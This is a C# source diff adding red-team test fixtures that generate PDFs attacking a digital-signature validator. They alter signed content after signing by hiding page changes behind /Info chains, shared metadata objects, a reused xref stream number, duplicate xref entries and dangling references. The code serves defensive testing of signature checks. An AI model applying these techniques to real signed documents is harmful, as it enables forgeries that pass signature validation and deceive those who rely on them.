@@ -1,0 +1,123 @@
+using System.Text;
+using DocSign.Pdf;
+
+namespace DocSign.Testing.Attacks;
+
+/// <summary>
+/// Attacks on the whitelist of the modification analysis: changes dressed up as an allowed kind of change
+/// (document information, XMP metadata, structure tree, an old cross-reference stream), and a reachability
+/// walk that can be made to lose sight of the page content. Red-team additions (2026-11).
+/// </summary>
+public static partial class AttackPdfs
+{
+    private static readonly byte[] FakeText = Encoding.ASCII.GetBytes("BT /F1 18 Tf 72 760 Td (DOKUMEN PALSU) Tj ET\n");
+
+    /// <summary>
+    /// No preparation: after signing, the /Info dictionary (an allowed change) gains a chain of
+    /// <paramref name="length"/> new dictionaries whose last one points at the first page, and the page
+    /// content stream is rewritten in the same update. A depth-limited depth-first walk that meets the page
+    /// first at the end of the chain never sees its content stream, which then looks like an orphan.
+    /// </summary>
+    public static byte[] PageContentHiddenBehindLongInfoChain(byte[] signed, int length = 511) => Update(signed, (file, w) =>
+    {
+        var page = file.GetPages()[0];
+        var contentRef = (PdfReference)page.Dictionary["Contents"]!;
+        w.Set(contentRef, PdfIncrementalWriter.CreateStream(new PdfDictionary(), FakeText, compress: false));
+        PdfObject next = page.Reference!;
+        for (int i = 0; i < length; i++) next = w.Add(new PdfDictionary().Set("Next", next));
+        var infoRef = (PdfReference)file.Trailer["Info"]!;
+        w.EditDictionary(infoRef).Set("Chain", next);
+    });
+
+    /// <summary>
+    /// Shadow preparation (unsigned): the page's /Resources becomes an indirect dictionary that is also the
+    /// document's /Info. After signing, <see cref="SharedInfoResourcesFontSwapped"/> changes it "as /Info".
+    /// </summary>
+    public static byte[] SharedInfoResourcesBase(byte[] pdf) => Update(pdf, (file, w) =>
+    {
+        var page = file.GetPages()[0];
+        var res = ((PdfDictionary)file.Resolve(page.Dictionary["Resources"])).CloneDictionary();
+        res.Set("Producer", PdfString.FromText("DocSign.Testing"));
+        var shared = w.Add(res);
+        w.EditDictionary(page.Reference!).Set("Resources", shared);
+        w.SetTrailerEntry("Info", shared);
+    });
+
+    /// <summary>The shared /Info + /Resources dictionary's font is swapped after signing.</summary>
+    public static byte[] SharedInfoResourcesFontSwapped(byte[] signedShared) => Update(signedShared, (file, w) =>
+    {
+        var infoRef = (PdfReference)file.Trailer["Info"]!;
+        var font = w.Add(new PdfDictionary().Set("Type", new PdfName("Font")).Set("Subtype", new PdfName("Type1")).Set("BaseFont", new PdfName("Courier")));
+        w.EditDictionary(infoRef).Set("Font", new PdfDictionary().Set("F1", font));
+    });
+
+    /// <summary>Shadow preparation (unsigned): the catalog's /Metadata names the page content stream.</summary>
+    public static byte[] SharedMetadataContentBase(byte[] pdf) => Update(pdf, (file, w) =>
+    {
+        var contentRef = (PdfReference)file.GetPages()[0].Dictionary["Contents"]!;
+        w.EditDictionary((PdfReference)file.Trailer["Root"]!).Set("Metadata", contentRef);
+    });
+
+    /// <summary>Shadow preparation (unsigned): a structure tree whose root also names the page content stream.</summary>
+    public static byte[] SharedStructContentBase(byte[] pdf) => Update(pdf, (file, w) =>
+    {
+        var contentRef = (PdfReference)file.GetPages()[0].Dictionary["Contents"]!;
+        var str = w.Add(new PdfDictionary().Set("Type", new PdfName("StructTreeRoot")).Set("K", new PdfArray()).Set("Alt", contentRef));
+        w.EditDictionary((PdfReference)file.Trailer["Root"]!).Set("StructTreeRoot", str);
+    });
+
+    /// <summary>The first page's content stream (same object number) is rewritten after signing.</summary>
+    public static byte[] PageContentRewritten(byte[] signed) => ContentChangedInLaterRevision(signed);
+
+    /// <summary>
+    /// Shadow preparation (unsigned) on <see cref="SamplePdfs.SamplePdfs.XrefStream"/>: the page also draws
+    /// object 8, the original revision's cross-reference stream (binary, draws nothing).
+    /// </summary>
+    public static byte[] OldXrefStreamDrawnBase(byte[] xrefStreamPdf) => Update(xrefStreamPdf, (file, w) =>
+    {
+        var page = file.GetPages()[0];
+        w.EditDictionary(page.Reference!).Set("Contents", new PdfArray(page.Dictionary["Contents"]!, new PdfReference(8)));
+    });
+
+    /// <summary>After signing, object 8 (an old cross-reference stream the page draws) becomes a content stream.</summary>
+    public static byte[] OldXrefStreamNumberReused(byte[] signed) => Update(signed, (file, w) =>
+        w.Set(new PdfReference(8), PdfIncrementalWriter.CreateStream(new PdfDictionary(), FakeText, compress: false)));
+
+    /// <summary>
+    /// A last revision whose cross-reference table names the page content object twice: first (what pdf.js,
+    /// poppler and qpdf use) at a new forged stream, then again at its signed bytes.
+    /// </summary>
+    public static byte[] DuplicateXrefEntryInOneSection(byte[] signed)
+    {
+        using var file = PdfFile.Open(signed);
+        var contentRef = (PdfReference)file.GetPages()[0].Dictionary["Contents"]!;
+        var signedEntry = file.Latest.GetEntry(contentRef.ObjectNumber)!.Value;
+        var prefix = signed[^1] == '\n' ? "" : "\n";
+        long objOffset = signed.Length + prefix.Length;
+        var obj = $"{contentRef.ObjectNumber} 0 obj\n<</Length {FakeText.Length}>>\nstream\n{Encoding.ASCII.GetString(FakeText)}endstream\nendobj\n";
+        long xref = objOffset + obj.Length;
+        var t = file.Trailer;
+        var sb = new StringBuilder(prefix).Append(obj)
+            .Append("xref\n0 1\n0000000000 65535 f \n")
+            .Append($"{contentRef.ObjectNumber} 1\n{objOffset:D10} 00000 n \n")
+            .Append($"{contentRef.ObjectNumber} 1\n{signedEntry.Offset:D10} 00000 n \n")
+            .Append($"trailer\n<< /Size {t.GetInteger("Size")} /Root {t["Root"]} /Prev {file.Revisions[^1].XrefOffset}");
+        if (t["Info"] is { } info) sb.Append(" /Info ").Append(info);
+        sb.Append($" >>\nstartxref\n{xref}\n%%EOF\n");
+        return signed.Concat(Encoding.ASCII.GetBytes(sb.ToString())).ToArray();
+    }
+
+    /// <summary>Object number used by <see cref="DanglingReferenceBase"/>: far above anything a signer allocates.</summary>
+    public const int DanglingObject = 900;
+
+    /// <summary>Shadow preparation (unsigned): the page also draws object 900, which does not exist (drawn as nothing).</summary>
+    public static byte[] DanglingReferenceBase(byte[] pdf) => Update(pdf, (file, w) =>
+    {
+        var page = file.GetPages()[0];
+        w.EditDictionary(page.Reference!).Set("Contents", new PdfArray(page.Dictionary["Contents"]!, new PdfReference(DanglingObject)));
+    });
+
+    /// <summary>After signing, the object the page already referred to is defined with other text. No signed object changes.</summary>
+    public static byte[] DanglingReferenceFilled(byte[] signed) => Update(signed, (file, w) =>
+        w.Set(new PdfReference(DanglingObject), PdfIncrementalWriter.CreateStream(new PdfDictionary(), FakeText, compress: false)));
+}
